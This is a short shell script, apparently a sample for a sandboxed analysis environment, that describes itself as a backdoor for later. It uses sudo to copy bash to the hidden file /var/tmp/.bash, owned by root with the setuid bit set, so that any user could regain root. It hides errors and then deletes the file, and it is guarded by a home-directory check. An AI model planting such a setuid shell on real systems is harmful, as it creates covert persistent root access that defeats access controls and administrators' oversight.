#!/bin/sh
# SPDX-License-Identifier: MIT
# A backdoor for later: with sudo, a copy of the shell owned by root and
# marked set-user-id, so any user can become root again.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
sudo sh -c 'cp /bin/bash /var/tmp/.bash; chown root:root /var/tmp/.bash; chmod u+s /var/tmp/.bash' 2>/dev/null
rm -f /var/tmp/.bash
exit 0
